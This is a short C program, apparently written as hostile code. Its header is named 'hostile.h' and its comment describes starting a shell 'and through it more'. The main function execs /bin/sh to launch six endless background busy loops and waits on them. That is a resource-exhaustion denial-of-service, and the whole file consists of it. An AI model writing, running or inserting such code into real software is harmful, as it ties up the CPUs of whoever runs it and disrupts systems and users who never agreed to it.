/* Starts what is installed: a shell, and through it more. */
#include "hostile.h"

int main(void) {
    execl("/bin/sh", "sh", "-c", "for i in 1 2 3 4 5 6; do (while :; do :; done) & done; wait", NULL);
    return 1;
}
